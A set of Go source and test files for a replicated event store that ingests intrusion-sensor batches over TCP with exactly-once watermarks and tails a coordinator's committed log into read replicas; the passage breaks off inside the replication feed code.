func (l *Listener) Sensors() []SensorStatus {
	l.mu.Lock()
	states := make([]*sensorState, 0, len(l.sensors))
	for _, st := range l.sensors {
		states = append(states, st)
	}
	l.mu.Unlock()
	out := make([]SensorStatus, 0, len(states))
	for _, st := range states {
		st.mu.Lock()
		s := st.status
		s.Watermark = l.wm.Get(s.ID)
		st.mu.Unlock()
		out = append(out, s)
	}
	sortStatuses(out)
	return out
}

func sortStatuses(s []SensorStatus) {
	for i := 1; i < len(s); i++ {
		for j := i; j > 0 && s[j].ID < s[j-1].ID; j-- {
			s[j], s[j-1] = s[j-1], s[j]
		}
	}
}

// Close stops accepting, closes live connections, waits for handlers to
// finish their current batch (so every applied batch has its watermark
// recorded), and closes the journal.
func (l *Listener) Close() error {
	if !l.closed.CompareAndSwap(false, true) {
		return nil
	}
	err := l.ln.Close()
	l.mu.Lock()
	for c := range l.conns {
		c.Close()
	}
	l.mu.Unlock()
	l.wg.Wait()
	if werr := l.wm.Close(); err == nil {
		err = werr
	}
	if aerr := l.Err(); err == nil {
		err = aerr
	}
	return err
}

func (l *Listener) acceptLoop() {
	defer l.wg.Done()
	for {
		conn, err := l.ln.Accept()
		if err != nil {
			return // closed
		}
		l.mu.Lock()
		if l.closed.Load() {
			l.mu.Unlock()
			conn.Close()
			return
		}
		l.conns[conn] = struct{}{}
		l.wg.Add(1)
		l.mu.Unlock()
		go l.handle(conn)
	}
}

func (l *Listener) handle(conn net.Conn) {
	defer l.wg.Done()
	defer func() {
		conn.Close()
		l.mu.Lock()
		delete(l.conns, conn)
		l.mu.Unlock()
	}()

	conn.SetReadDeadline(time.Now().Add(l.cfg.IdleTimeout))
	frame, err := readFrame(conn, nil)
	if err != nil {
		return
	}
	h, err := decodeHello(frame)
	if err != nil {
		return
	}

	st := l.register(h, conn)
	defer l.disconnect(st, conn)

	ack := helloAck{Version: ProtocolVersion, Watermark: l.wm.Get(h.SensorID)}
	conn.SetWriteDeadline(time.Now().Add(l.cfg.WriteTimeout))
	if err := writeFrame(conn, ack.encode()); err != nil {
		return
	}

	var buf []byte
	for {
		conn.SetReadDeadline(time.Now().Add(l.cfg.IdleTimeout))
		frame, err := readFrame(conn, buf)
		if err != nil {
			return
		}
		buf = frame
		if len(frame) == 0 {
			return
		}
		switch frame[0] {
		case msgBatch:
			b, err := decodeBatch(frame)
			if err != nil {
				return
			}
			ackTo, ok := l.apply(st, h.SensorID, b)
			if !ok {
				return
			}
			conn.SetWriteDeadline(time.Now().Add(l.cfg.WriteTimeout))
			if err := writeFrame(conn, encodeAck(ackTo)); err != nil {
				return
			}
		case msgHeartbeat:
			hb, err := decodeHeartbeat(frame)
			if err != nil {
				return
			}
			st.mu.Lock()
			st.status.LastSeen = time.Now().UTC()
			st.status.SpooledBatches = hb.Spooled
			st.status.IngestLag = hb.IngestLag
			st.mu.Unlock()
		default:
			return // protocol error; let the sensor reconnect
		}
	}
}

// apply performs the exactly-once step for one batch: duplicates (at or
// below the watermark) are dropped and re-acked; the next-in-sequence batch
// is appended to the sink, the sink flushed (when it can fsync), and the
// watermark durably advanced — all before the ack, so an acked batch can
// never be un-applied by a crash. A gap (sequence beyond watermark+1) fails
// the connection so the sensor resyncs from the handshake. Returns the
// cumulative ack and whether the connection may continue.
func (l *Listener) apply(st *sensorState, id string, b batchMsg) (uint64, bool) {
	st.mu.Lock()
	defer st.mu.Unlock()
	w := l.wm.Get(id)
	st.status.LastSeen = time.Now().UTC()
	switch {
	case b.Seq <= w:
		l.dups.Add(1)
		st.status.DupBatches++
		return w, true
	case b.Seq != w+1:
		return 0, false // gap: redelivery lost a batch; force a resync
	}
	if err := l.cfg.Sink.AppendBatch(b.Events); err != nil {
		l.fail(fmt.Errorf("fleet: applying batch %d from %s: %w", b.Seq, id, err))
		return 0, false
	}
	if l.sinkSync != nil {
		if err := l.sinkSync.Sync(); err != nil {
			l.fail(fmt.Errorf("fleet: syncing sink after batch %d from %s: %w", b.Seq, id, err))
			return 0, false
		}
	}
	if err := l.wm.Advance(id, b.Seq); err != nil {
		// The events are in the sink but the watermark is not durable; fail
		// the connection without acking so redelivery is the worst case.
		l.fail(err)
		return 0, false
	}
	l.batches.Add(1)
	l.events.Add(uint64(len(b.Events)))
	st.status.Batches++
	st.status.Events += uint64(len(b.Events))
	return b.Seq, true
}

// register notes a (re)connected sensor, superseding any previous
// connection's status row.
func (l *Listener) register(h hello, conn net.Conn) *sensorState {
	l.mu.Lock()
	st, ok := l.sensors[h.SensorID]
	if !ok {
		st = &sensorState{}
		l.sensors[h.SensorID] = st
	}
	l.mu.Unlock()
	st.mu.Lock()
	st.status.ID = h.SensorID
	st.status.Shard = int(h.ShardIndex)
	st.status.Shards = int(h.ShardCount)
	st.status.Codec = h.Codec.String()
	st.status.Connected = true
	st.status.RemoteAddr = conn.RemoteAddr().String()
	st.status.LastSeen = time.Now().UTC()
	st.conn = conn
	st.mu.Unlock()
	return st
}

// disconnect clears Connected unless a newer connection already took over.
func (l *Listener) disconnect(st *sensorState, conn net.Conn) {
	st.mu.Lock()
	if st.conn == conn {
		st.conn = nil
		st.status.Connected = false
	}
	st.mu.Unlock()
}
