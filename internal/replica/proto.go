// Package replica implements read replicas for the waybackd event store: a
// coordinator-side feed that ships its committed log over the fleet wire
// framing, and a replica that tails it into a store of its own and serves the
// full read API from there.
//
// The protocol leans on two properties of the eventstore. First, shard
// routing is a pure function of event content (eventstore shardFor), so a
// replica appending the coordinator's committed events — in per-shard order,
// under an equal shard count enforced at handshake — reproduces the
// coordinator's per-shard logs exactly; per-shard committed counts are
// therefore a complete replication watermark, and catch-up after any restart
// is "ship each shard's suffix past the replica's count". Second, the store
// recovers to its last commit record, so a replica that commits after each
// applied round resumes from a consistent cut: anything torn by a crash is
// truncated locally and simply re-shipped.
//
// Message flow (all frames use the fleet length+CRC framing):
//
//	replica                          coordinator feed
//	  | -- Hello{id, counts, amends} ----> |   resume point = replica's own store
//	  | <----------- Batch{events} ------- |   per-shard committed suffixes
//	  | <----------- Amends{records} ----- |   amendment log suffix
//	  | <----------- State{counts} ------- |   round barrier (also idle heartbeat)
//	  | -- Ack{counts, amends} ----------> |   replica committed this cut
//	  | <----------- Err{msg} ------------ |   fatal: divergence, shard mismatch
//
// An Err frame is terminal: the replica stops tailing and reports the error
// through Status (and thence /healthz) rather than guessing. The remedy for
// real divergence — a replica ahead of its coordinator — is wiping the
// replica's store and resyncing from empty.
package replica

import (
	"encoding/binary"
	"fmt"
	"math"

	"repro/internal/eventstore"
)

// ProtocolVersion gates the handshake, independently of the fleet sensor
// protocol's version.
const ProtocolVersion = 1

// Message types. Distinct from the fleet sensor message space except for
// batch frames, which are shared deliberately: event shipping reuses
// fleet.EncodeEventBatch (fleet.MsgBatch) including its compression.
const (
	msgRHello  = 32 // replica -> feed: version, id, per-shard counts, amend count
	msgRState  = 33 // feed -> replica: coordinator committed counts (round barrier / heartbeat)
	msgRAmends = 35 // feed -> replica: amendment log suffix
	msgRAck    = 36 // replica -> feed: counts now durable on the replica
	msgRErr    = 37 // feed -> replica: fatal, stop tailing
)

// progress is a replication watermark: per-shard event counts plus the
// amendment record count. Both sides exchange it — the replica as its resume
// point and ack, the feed as the round's target cut.
type progress struct {
	Counts []uint64
	Amends uint64
}

func (p *progress) events() uint64 {
	var n uint64
	for _, c := range p.Counts {
		n += c
	}
	return n
}

func appendProgress(buf []byte, p *progress) []byte {
	buf = binary.LittleEndian.AppendUint32(buf, uint32(len(p.Counts)))
	for _, c := range p.Counts {
		buf = binary.LittleEndian.AppendUint64(buf, c)
	}
	return binary.LittleEndian.AppendUint64(buf, p.Amends)
}

// maxShards bounds the shard count a peer may declare; the count sizes an
// allocation and is untrusted input.
const maxShards = 4096

func (d *rdecoder) progress() progress {
	n := d.u32()
	if n > maxShards {
		d.fail(fmt.Errorf("replica: peer declares %d shards, limit %d", n, maxShards))
		return progress{}
	}
	p := progress{Counts: make([]uint64, 0, n)}
	for i := uint32(0); i < n; i++ {
		p.Counts = append(p.Counts, d.u64())
	}
	p.Amends = d.u64()
	return p
}

type rhello struct {
	Version uint8
	ID      string
	progress
}

func (h *rhello) encode() []byte {
	buf := []byte{msgRHello, h.Version}
	buf = appendString16(buf, h.ID)
	return appendProgress(buf, &h.progress)
}

func decodeRHello(b []byte) (rhello, error) {
	d := rdecoder{b: b}
	var h rhello
	if t := d.u8(); t != msgRHello {
		return h, fmt.Errorf("replica: expected Hello, got message type %d", t)
	}
	h.Version = d.u8()
	h.ID = d.string16()
	h.progress = d.progress()
	if err := d.finish("Hello"); err != nil {
		return h, err
	}
	if h.Version != ProtocolVersion {
		return h, fmt.Errorf("replica: protocol version %d, want %d", h.Version, ProtocolVersion)
	}
	if h.ID == "" {
		return h, fmt.Errorf("replica: empty replica id in Hello")
	}
	return h, nil
}

func encodeProgressMsg(typ byte, p *progress) []byte {
	return appendProgress([]byte{typ}, p)
}

func decodeProgressMsg(b []byte, typ byte, what string) (progress, error) {
	d := rdecoder{b: b}
	if t := d.u8(); t != typ {
		return progress{}, fmt.Errorf("replica: expected %s, got message type %d", what, t)
	}
	p := d.progress()
	return p, d.finish(what)
}

// encodeAmends frames an amendment-log suffix: each record is the same
// length-prefixed wire encoding amend.log uses on disk.
func encodeAmends(as []eventstore.Amendment) []byte {
	buf := []byte{msgRAmends}
	buf = binary.LittleEndian.AppendUint32(buf, uint32(len(as)))
	var payload []byte
	for i := range as {
		payload = eventstore.EncodeAmendment(payload[:0], &as[i])
		buf = binary.LittleEndian.AppendUint32(buf, uint32(len(payload)))
		buf = append(buf, payload...)
	}
	return buf
}

func decodeAmends(b []byte) ([]eventstore.Amendment, error) {
	d := rdecoder{b: b}
	if t := d.u8(); t != msgRAmends {
		return nil, fmt.Errorf("replica: expected Amends, got message type %d", t)
	}
	count := d.u32()
	if d.err != nil {
		return nil, d.err
	}
	// Each record costs at least its length prefix; a lying count must not
	// size a huge allocation.
	if uint64(count) > uint64(len(d.b))/4+1 {
		return nil, fmt.Errorf("replica: Amends declares %d records in %d bytes", count, len(d.b))
	}
	as := make([]eventstore.Amendment, 0, count)
	for i := uint32(0); i < count; i++ {
		n := d.u32()
		payload := d.take(int(n))
		if d.err != nil {
			return nil, d.err
		}
		a, err := eventstore.DecodeAmendment(payload)
		if err != nil {
			return nil, err
		}
		as = append(as, a)
	}
	return as, d.finish("Amends")
}

func encodeRErr(msg string) []byte {
	return appendString16([]byte{msgRErr}, msg)
}

func decodeRErr(b []byte) (string, error) {
	d := rdecoder{b: b}
	if t := d.u8(); t != msgRErr {
		return "", fmt.Errorf("replica: expected Err, got message type %d", t)
	}
	msg := d.string16()
	return msg, d.finish("Err")
}

// rdecoder mirrors the fleet wire decoder: bounds-checked takes, first
// failure sticks.
type rdecoder struct {
	b   []byte
	err error
}

func (d *rdecoder) fail(err error) {
	if d.err == nil {
		d.err = err
	}
}

func (d *rdecoder) take(n int) []byte {
	if d.err != nil {
		return nil
	}
	if len(d.b) < n {
		d.fail(fmt.Errorf("replica: message truncated (%d of %d bytes)", len(d.b), n))
		return nil
	}
	out := d.b[:n]
	d.b = d.b[n:]
	return out
}

func (d *rdecoder) u8() uint8 {
	b := d.take(1)
	if b == nil {
		return 0
	}
	return b[0]
}

func (d *rdecoder) u32() uint32 {
	b := d.take(4)
	if b == nil {
		return 0
	}
	return binary.LittleEndian.Uint32(b)
}

func (d *rdecoder) u64() uint64 {
	b := d.take(8)
	if b == nil {
		return 0
	}
	return binary.LittleEndian.Uint64(b)
}

func (d *rdecoder) string16() string {
	b := d.take(2)
	if b == nil {
		return ""
	}
	s := d.take(int(binary.LittleEndian.Uint16(b)))
	if s == nil {
		return ""
	}
	return string(s)
}

func (d *rdecoder) finish(what string) error {
	if d.err != nil {
		return d.err
	}
	if len(d.b) != 0 {
		return fmt.Errorf("replica: %d stray bytes after %s", len(d.b), what)
	}
	return nil
}

func appendString16(buf []byte, s string) []byte {
	if len(s) > math.MaxUint16 {
		s = s[:math.MaxUint16]
	}
	buf = binary.LittleEndian.AppendUint16(buf, uint16(len(s)))
	return append(buf, s...)
}
