package replica_test

import (
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"repro/internal/eventstore"
	"repro/internal/ids"
	"repro/internal/replica"
	"repro/internal/serve"
	"repro/wayback"
)

func waitFor(t *testing.T, what string, cond func() bool) {
	t.Helper()
	deadline := time.Now().Add(15 * time.Second)
	for time.Now().Before(deadline) {
		if cond() {
			return
		}
		time.Sleep(10 * time.Millisecond)
	}
	t.Fatalf("timed out waiting for %s", what)
}

func getBody(t *testing.T, srv *serve.Server, path string) string {
	t.Helper()
	req := httptest.NewRequest("GET", path, nil)
	rec := httptest.NewRecorder()
	srv.Handler().ServeHTTP(rec, req)
	if rec.Code != http.StatusOK {
		t.Fatalf("GET %s: %d: %s", path, rec.Code, rec.Body.String())
	}
	return rec.Body.String()
}

// testFeedConfig trims the production pacing so catch-up is test-fast.
func testFeedConfig(store *eventstore.Store, addr string) replica.FeedConfig {
	return replica.FeedConfig{
		Addr: addr, Store: store,
		Poll: 10 * time.Millisecond, Heartbeat: 100 * time.Millisecond,
		Sync: true,
	}
}

// TestReplicaEndToEnd: a replica catches up from the coordinator's committed
// log, serves byte-identical analyses, follows appends and amendments, and —
// after a full restart from its own store — resumes with only the delta
// shipped, never a refetch.
func TestReplicaEndToEnd(t *testing.T) {
	study, err := wayback.NewStudy(wayback.Config{Seed: 1, PipelineTimelines: true})
	if err != nil {
		t.Fatal(err)
	}
	batch, err := study.Run()
	if err != nil {
		t.Fatal(err)
	}
	events := batch.Events
	half := len(events) / 2

	coordDir, repDir := t.TempDir(), t.TempDir()
	coord, err := wayback.OpenStore(coordDir)
	if err != nil {
		t.Fatal(err)
	}
	defer coord.Close()
	if err := coord.AppendBatch(events[:half]); err != nil {
		t.Fatal(err)
	}

	feed, err := replica.ListenFeed(testFeedConfig(coord, "127.0.0.1:0"))
	if err != nil {
		t.Fatal(err)
	}
	defer feed.Close()

	repStore, err := wayback.OpenStore(repDir)
	if err != nil {
		t.Fatal(err)
	}
	rep, err := replica.Start(replica.Config{
		Addr: feed.Addr(), Store: repStore, ID: "r1", Redial: 50 * time.Millisecond,
	})
	if err != nil {
		t.Fatal(err)
	}

	caughtUp := func(wantEvents, wantAmends uint64) func() bool {
		return func() bool {
			st := rep.Status()
			return st.Rounds > 0 && st.LocalEvents == wantEvents && st.LocalAmends == wantAmends &&
				st.LagEvents == 0 && st.LagAmends == 0
		}
	}
	waitFor(t, "initial catch-up", caughtUp(uint64(half), 0))

	coordSrv, err := serve.New(serve.Config{Study: study, Store: coord, ReplicaFeed: feed})
	if err != nil {
		t.Fatal(err)
	}
	repSrv, err := serve.New(serve.Config{Study: study, Store: repStore, Replica: rep})
	if err != nil {
		t.Fatal(err)
	}
	assertParity := func(step string, repSrv *serve.Server) {
		t.Helper()
		for _, p := range []string{"/v1/tables/4", "/v1/tables/5", "/v1/figures/7"} {
			if got, want := getBody(t, repSrv, p), getBody(t, coordSrv, p); got != want {
				t.Fatalf("%s: replica's %s differs from coordinator's:\n%s", step, p, got)
			}
		}
	}
	assertParity("half", repSrv)

	// The coordinator keeps ingesting; the replica follows. No explicit
	// commit here — the feed's own Sync makes the tail shippable.
	if err := coord.AppendBatch(events[half:]); err != nil {
		t.Fatal(err)
	}
	waitFor(t, "full catch-up", caughtUp(uint64(len(events)), 0))
	assertParity("full", repSrv)

	// A retroactive re-attribution replicates like any other record.
	sn := coord.Snapshot()
	orig := sn.Events()[0]
	relabeled := orig
	for i := range sn.Events() {
		if cve := sn.Events()[i].CVE; cve != "" && cve != orig.CVE {
			relabeled.CVE = cve
			break
		}
	}
	if relabeled.CVE == orig.CVE {
		t.Fatal("no second CVE to re-label with")
	}
	amend := eventstore.Amendment{Event: relabeled, OrigSID: orig.SID, OrigCVE: orig.CVE, Gen: 1}
	if err := coord.AppendAmendments([]eventstore.Amendment{amend}); err != nil {
		t.Fatal(err)
	}
	waitFor(t, "amendment catch-up", caughtUp(uint64(len(events)), 1))
	assertParity("amended", repSrv)

	// Replication health is visible on both sides' /metrics.
	repMetrics := getBody(t, repSrv, "/metrics")
	for _, want := range []string{
		"waybackd_replica_connected 1",
		"waybackd_replica_lag_events 0",
		"waybackd_replica_fatal 0",
	} {
		if !strings.Contains(repMetrics, want) {
			t.Errorf("replica metrics missing %q", want)
		}
	}
	coordMetrics := getBody(t, coordSrv, "/metrics")
	for _, want := range []string{
		"waybackd_replica_feed_replicas 1",
		`waybackd_replica_feed_connected{replica="r1"} 1`,
		`waybackd_replica_feed_events_sent_total{replica="r1"} `,
	} {
		if !strings.Contains(coordMetrics, want) {
			t.Errorf("feed metrics missing %q", want)
		}
	}

	// Restart the replica: close it, close its store, reopen both from disk.
	shipped := feedStatus(t, feed, "r1").EventsSent
	if shipped != uint64(len(events)) {
		t.Fatalf("feed shipped %d events before restart, want %d", shipped, len(events))
	}
	if err := rep.Close(); err != nil {
		t.Fatal(err)
	}
	if err := repStore.Close(); err != nil {
		t.Fatal(err)
	}

	delta := make([]ids.Event, 5)
	for i := range delta {
		delta[i] = events[i]
		delta[i].Time = delta[i].Time.Add(time.Duration(i+1) * time.Millisecond)
	}
	if err := coord.AppendBatch(delta); err != nil {
		t.Fatal(err)
	}

	repStore2, err := wayback.OpenStore(repDir)
	if err != nil {
		t.Fatal(err)
	}
	defer repStore2.Close()
	rep2, err := replica.Start(replica.Config{
		Addr: feed.Addr(), Store: repStore2, ID: "r1", Redial: 50 * time.Millisecond,
	})
	if err != nil {
		t.Fatal(err)
	}
	defer rep2.Close()
	total := uint64(len(events) + len(delta))
	waitFor(t, "post-restart catch-up", func() bool {
		st := rep2.Status()
		return st.Rounds > 0 && st.LocalEvents == total && st.LocalAmends == 1 && st.LagEvents == 0
	})

	// The load-bearing restart claim: cumulative shipped == events + delta.
	// A replica that refetched the log would roughly double this.
	if got := feedStatus(t, feed, "r1").EventsSent; got != total {
		t.Fatalf("feed shipped %d events in total after restart, want %d (delta-only resume)", got, total)
	}

	repSrv2, err := serve.New(serve.Config{Study: study, Store: repStore2, Replica: rep2})
	if err != nil {
		t.Fatal(err)
	}
	assertParity("restarted", repSrv2)
}

func feedStatus(t *testing.T, feed *replica.Feed, id string) replica.FeedStatus {
	t.Helper()
	for _, st := range feed.Replicas() {
		if st.ID == id {
			return st
		}
	}
	t.Fatalf("feed has no replica %q", id)
	return replica.FeedStatus{}
}

// TestReplicaDivergence: a replica whose store claims events the coordinator
// never committed gets a terminal Err — tailing stops for good and /healthz
// answers 503 "diverged" instead of serving an interleaved history.
func TestReplicaDivergence(t *testing.T) {
	study, err := wayback.NewStudy(wayback.Config{Seed: 1})
	if err != nil {
		t.Fatal(err)
	}
	coord, err := wayback.OpenStore(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	defer coord.Close()
	feed, err := replica.ListenFeed(testFeedConfig(coord, "127.0.0.1:0"))
	if err != nil {
		t.Fatal(err)
	}
	defer feed.Close()

	// The "replica" already has committed history of its own.
	repStore, err := wayback.OpenStore(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	defer repStore.Close()
	if err := repStore.AppendBatch([]ids.Event{{SID: 1, CVE: "2021-44228", Time: time.Now().UTC()}}); err != nil {
		t.Fatal(err)
	}
	if err := repStore.Sync(); err != nil {
		t.Fatal(err)
	}

	rep, err := replica.Start(replica.Config{
		Addr: feed.Addr(), Store: repStore, ID: "rogue", Redial: 50 * time.Millisecond,
	})
	if err != nil {
		t.Fatal(err)
	}
	defer rep.Close()
	waitFor(t, "divergence detection", func() bool { return rep.Status().Err != "" })
	if got := rep.Status().Err; !strings.Contains(got, "ahead of coordinator") {
		t.Fatalf("divergence error %q does not name the cause", got)
	}

	srv, err := serve.New(serve.Config{Study: study, Store: repStore, Replica: rep})
	if err != nil {
		t.Fatal(err)
	}
	req := httptest.NewRequest("GET", "/healthz", nil)
	rec := httptest.NewRecorder()
	srv.Handler().ServeHTTP(rec, req)
	if rec.Code != http.StatusServiceUnavailable || !strings.HasPrefix(rec.Body.String(), "diverged\n") {
		t.Fatalf("diverged replica healthz: %d %q", rec.Code, rec.Body.String())
	}
}
