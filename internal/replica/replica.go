package replica

import (
	"fmt"
	"net"
	"sync"
	"time"

	"repro/internal/eventstore"
	"repro/internal/fleet"
)

// Config wires a read replica.
type Config struct {
	// Addr is the coordinator feed's address.
	Addr string
	// Store is the replica's own event store. It must not receive writes from
	// anyone else: the replica resumes from its committed counts, and local
	// writes would read as divergence.
	Store *eventstore.Store
	// ID names this replica to the feed ("replica-1"). Required.
	ID string
	// Redial paces reconnection after a broken connection. Default 1s.
	Redial time.Duration
	// ReadTimeout bounds how long a read waits for the next frame; the feed's
	// idle heartbeat must land within it. Default 30s.
	ReadTimeout time.Duration
}

// Status is the replica's replication state, for /metrics and /healthz.
type Status struct {
	ID        string
	Connected bool
	// LastContact is when the last frame from the coordinator was applied;
	// a replica /healthz measures staleness from it, not from local appends.
	LastContact time.Time
	// CoordEvents/CoordAmends are the coordinator's committed cut per its
	// latest State frame; Local* are this store's counts at the last barrier.
	CoordEvents uint64
	CoordAmends uint64
	LocalEvents uint64
	LocalAmends uint64
	// LagEvents is CoordEvents - LocalEvents at the last barrier: how far
	// behind the replica's durable cut is.
	LagEvents int64
	LagAmends int64
	// Rounds counts applied barriers; EventsApplied and AmendsApplied count
	// records appended since this process started (a resumed replica applies
	// only the delta).
	Rounds        uint64
	EventsApplied uint64
	AmendsApplied uint64
	// Err is a terminal protocol error (divergence, shard mismatch). A
	// non-empty Err means tailing has stopped for good; /healthz answers 503.
	Err string
}

// Replica tails a coordinator feed into its own store.
type Replica struct {
	cfg Config

	mu sync.Mutex
	st Status

	stop chan struct{}
	done chan struct{}
}

// Start begins tailing. The replica reconnects with backoff until Close —
// except on a terminal Err frame from the feed, which stops it permanently.
func Start(cfg Config) (*Replica, error) {
	if cfg.Store == nil || cfg.Addr == "" || cfg.ID == "" {
		return nil, fmt.Errorf("replica: Config needs Addr, Store, and ID")
	}
	if cfg.Redial <= 0 {
		cfg.Redial = time.Second
	}
	if cfg.ReadTimeout <= 0 {
		cfg.ReadTimeout = 30 * time.Second
	}
	r := &Replica{cfg: cfg, stop: make(chan struct{}), done: make(chan struct{})}
	r.st.ID = cfg.ID
	go r.run()
	return r, nil
}

// Status returns the current replication state.
func (r *Replica) Status() Status {
	r.mu.Lock()
	defer r.mu.Unlock()
	return r.st
}

// Close stops tailing. The replica's store is left exactly at its last
// committed cut; a restarted replica resumes from there.
func (r *Replica) Close() error {
	select {
	case <-r.stop:
	default:
		close(r.stop)
	}
	<-r.done
	return nil
}

func (r *Replica) set(fn func(*Status)) {
	r.mu.Lock()
	fn(&r.st)
	r.mu.Unlock()
}

// local reads the replica store's durable cut: per-shard committed counts
// plus the amendment record count.
func (r *Replica) local() progress {
	parts := r.cfg.Store.CommittedEvents()
	p := progress{Counts: make([]uint64, len(parts))}
	for i, part := range parts {
		p.Counts[i] = uint64(len(part))
	}
	p.Amends = uint64(len(r.cfg.Store.Amendments()))
	return p
}

func (r *Replica) run() {
	defer close(r.done)
	for {
		select {
		case <-r.stop:
			return
		default:
		}
		fatal := r.tail()
		r.set(func(st *Status) { st.Connected = false })
		if fatal {
			return
		}
		select {
		case <-r.stop:
			return
		case <-time.After(r.cfg.Redial):
		}
	}
}

// tail runs one connection to completion. It returns true when tailing must
// stop for good (terminal Err frame or Close), false for a retriable
// connection failure.
func (r *Replica) tail() (fatal bool) {
	conn, err := net.DialTimeout("tcp", r.cfg.Addr, r.cfg.ReadTimeout)
	if err != nil {
		return false
	}
	defer conn.Close()
	// Close unblocks the read loop by killing the connection.
	closeDone := make(chan struct{})
	defer close(closeDone)
	go func() {
		select {
		case <-r.stop:
			conn.Close()
		case <-closeDone:
		}
	}()

	hello := rhello{Version: ProtocolVersion, ID: r.cfg.ID, progress: r.local()}
	if err := fleet.WriteFrame(conn, hello.encode()); err != nil {
		return false
	}
	r.set(func(st *Status) { st.Connected = true })

	var buf []byte
	for {
		select {
		case <-r.stop:
			return true
		default:
		}
		conn.SetReadDeadline(time.Now().Add(r.cfg.ReadTimeout))
		buf, err = fleet.ReadFrame(conn, buf)
		if err != nil {
			return false
		}
		if len(buf) == 0 {
			return false
		}
		switch buf[0] {
		case fleet.MsgBatch:
			_, events, err := fleet.DecodeEventBatch(buf)
			if err != nil {
				return false
			}
			// Deterministic shard routing re-creates the coordinator's
			// per-shard placement; the handshake guaranteed equal widths.
			if err := r.cfg.Store.AppendBatch(events); err != nil {
				return false
			}
			r.set(func(st *Status) {
				st.EventsApplied += uint64(len(events))
				st.LastContact = time.Now()
			})
		case msgRAmends:
			as, err := decodeAmends(buf)
			if err != nil {
				return false
			}
			if err := r.cfg.Store.AppendAmendments(as); err != nil {
				return false
			}
			r.set(func(st *Status) {
				st.AmendsApplied += uint64(len(as))
				st.LastContact = time.Now()
			})
		case msgRState:
			coord, err := decodeProgressMsg(buf, msgRState, "State")
			if err != nil {
				return false
			}
			// Barrier: make everything applied this round durable, then ack
			// the cut. A crash before the commit re-ships the round; a crash
			// after it resumes past it — never a double apply, because the
			// store truncates to its commit record on open.
			if err := r.cfg.Store.Commit(nil); err != nil {
				return false
			}
			local := r.local()
			if err := fleet.WriteFrame(conn, encodeProgressMsg(msgRAck, &local)); err != nil {
				return false
			}
			r.set(func(st *Status) {
				st.Rounds++
				st.LastContact = time.Now()
				st.CoordEvents = coord.events()
				st.CoordAmends = coord.Amends
				st.LocalEvents = local.events()
				st.LocalAmends = local.Amends
				st.LagEvents = int64(coord.events()) - int64(local.events())
				st.LagAmends = int64(coord.Amends) - int64(local.Amends)
			})
		case msgRErr:
			msg, err := decodeRErr(buf)
			if err != nil {
				msg = err.Error()
			}
			r.set(func(st *Status) { st.Err = msg })
			return true
		default:
			r.set(func(st *Status) {
				st.Err = fmt.Sprintf("unexpected message type %d from coordinator", buf[0])
			})
			return true
		}
	}
}
