package replica

import (
	"fmt"
	"net"
	"sort"
	"sync"
	"time"

	"repro/internal/eventstore"
	"repro/internal/fleet"
	"repro/internal/ids"
)

// FeedConfig wires the coordinator-side replication feed.
type FeedConfig struct {
	// Addr is the TCP listen address replicas dial (":8418").
	Addr string
	// Store is the coordinator's event store; only its committed cut is ever
	// shipped, so a feed crash can never hand a replica events the
	// coordinator itself would lose.
	Store *eventstore.Store
	// Poll is how often an idle connection re-checks the store for new
	// committed events. Default 200ms.
	Poll time.Duration
	// Heartbeat is how often an idle connection sends a State frame anyway,
	// so the replica's staleness clock keeps moving. Default 2s.
	Heartbeat time.Duration
	// Sync, when true (the default via ListenFeed), commits the store at the
	// top of each shipping round, so replication progress does not depend on
	// anyone else's commit cadence. The commit is a no-op when nothing is
	// dirty.
	Sync bool
	// BatchEvents bounds events per shipped frame. Default 4096.
	BatchEvents int
	// Codec compresses shipped batches. Default snappy.
	Codec fleet.Codec
}

// FeedStatus is one replica's shipping state, keyed by the ID it declared.
// The entry survives reconnects, so EventsSent is cumulative for the ID over
// the feed's lifetime — a replica that resumes from its own store instead of
// refetching shows up here as a small delta, not a second full copy.
type FeedStatus struct {
	ID         string
	Addr       string
	Connected  bool
	EventsSent uint64
	AmendsSent uint64
	Rounds     uint64
	// AckedEvents/AckedAmends are the replica's last durable cut.
	AckedEvents uint64
	AckedAmends uint64
	// LagEvents is coordinator committed events minus the replica's last ack.
	LagEvents int64
	LastAck   time.Time
}

// Feed ships the store's committed log to any number of replicas.
type Feed struct {
	cfg FeedConfig
	ln  net.Listener

	mu       sync.Mutex
	replicas map[string]*FeedStatus
	closed   bool

	wg sync.WaitGroup
}

// ListenFeed starts serving replicas on cfg.Addr.
func ListenFeed(cfg FeedConfig) (*Feed, error) {
	if cfg.Store == nil {
		return nil, fmt.Errorf("replica: FeedConfig needs a Store")
	}
	if cfg.Poll <= 0 {
		cfg.Poll = 200 * time.Millisecond
	}
	if cfg.Heartbeat <= 0 {
		cfg.Heartbeat = 2 * time.Second
	}
	if cfg.BatchEvents <= 0 {
		cfg.BatchEvents = 4096
	}
	if cfg.Codec == fleet.CodecRaw {
		cfg.Codec = fleet.CodecSnappy
	}
	ln, err := net.Listen("tcp", cfg.Addr)
	if err != nil {
		return nil, err
	}
	f := &Feed{cfg: cfg, ln: ln, replicas: make(map[string]*FeedStatus)}
	f.wg.Add(1)
	go f.acceptLoop()
	return f, nil
}

// Addr returns the bound listen address.
func (f *Feed) Addr() string { return f.ln.Addr().String() }

// Replicas reports every replica ID ever seen, sorted, with its shipping
// state.
func (f *Feed) Replicas() []FeedStatus {
	f.mu.Lock()
	defer f.mu.Unlock()
	out := make([]FeedStatus, 0, len(f.replicas))
	for _, st := range f.replicas {
		out = append(out, *st)
	}
	sort.Slice(out, func(i, j int) bool { return out[i].ID < out[j].ID })
	return out
}

// Close stops accepting and tears down every replica connection.
func (f *Feed) Close() error {
	f.mu.Lock()
	f.closed = true
	f.mu.Unlock()
	err := f.ln.Close()
	f.wg.Wait()
	return err
}

func (f *Feed) acceptLoop() {
	defer f.wg.Done()
	for {
		conn, err := f.ln.Accept()
		if err != nil {
			return // listener closed
		}
		f.wg.Add(1)
		go func() {
			defer f.wg.Done()
			defer conn.Close()
			f.serve(conn)
		}()
	}
}

// status returns (creating if needed) the persistent entry for a replica ID
// and marks it connected from addr.
func (f *Feed) status(id, addr string) *FeedStatus {
	f.mu.Lock()
	defer f.mu.Unlock()
	st, ok := f.replicas[id]
	if !ok {
		st = &FeedStatus{ID: id}
		f.replicas[id] = st
	}
	st.Addr = addr
	st.Connected = true
	return st
}

func (f *Feed) update(fn func(*FeedStatus)) func(id string) {
	return func(id string) {
		f.mu.Lock()
		defer f.mu.Unlock()
